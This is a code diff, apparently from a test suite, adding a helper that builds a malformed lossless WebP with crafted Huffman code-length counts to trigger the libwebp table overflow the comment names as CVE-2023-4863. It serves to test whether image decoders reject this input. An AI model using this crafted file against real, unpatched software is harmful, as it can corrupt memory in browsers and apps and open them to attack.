@@ -330,6 +330,36 @@ def many_frames_webp(n, width=64, height=48):
     return riff((b"VP8X", b"\x02\0\0\0" + size), (b"ANIM", b"\0" * 6), *[(b"ANMF", frame)] * n)
 
 
+# How many codes of each length, 1 to 15: complete ones whose tables are the largest that there can be, and for distances one that is
+# not complete, with a larger table. Decoders that fill the tables before they look at that write beyond them (CVE-2023-4863).
+GREENS = (1, 1, 1, 1, 0, 0, 0, 0, 1, 45, 1, 1, 97, 1, 130)
+OTHERS = (1, 0, 0, 0, 0, 1, 0, 0, 247, 1, 1, 1, 1, 1, 2)
+DISTANCES = (1, 0, 0, 0, 0, 0, 0, 0, 31, 1, 1, 1, 1, 1, 3)
+
+
+def overfull_webp(width=64, height=48):
+    bits = []
+
+    def put(value, n):
+        bits.extend(value >> i & 1 for i in range(n))
+    put(0x2F, 8)
+    put(width - 1, 14)
+    put(height - 1, 14)
+    put(0, 1 + 3 + 1 + 1 + 1)  # no alpha, version, no transform, no cache, one group of codes
+    for counts in GREENS, OTHERS, OTHERS, OTHERS, DISTANCES:
+        put(0, 1)  # a code with lengths
+        put(15, 4)  # 19 of them follow, in this order: 4 bits for each length from 0 to 15, none for repetitions
+        for symbol in (17, 18, 0, 1, 2, 3, 4, 5, 16, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15):
+            put(4 if symbol < 16 else 0, 3)
+        put(0, 1)  # lengths for all symbols
+        for length, n in enumerate(counts, 1):
+            for _ in range(n):
+                put(int(f"{length:04b}"[::-1], 2), 4)
+    put(0, -len(bits) % 8 + 4 * width * height)
+    data = bytes(sum(bit << i for i, bit in enumerate(bits[at:at + 8])) for at in range(0, len(bits), 8))
+    return riff((b"VP8L", data))
+
+
 def avif(width=64, height=48):
     return saved(drawn(width, height), "AVIF")
 
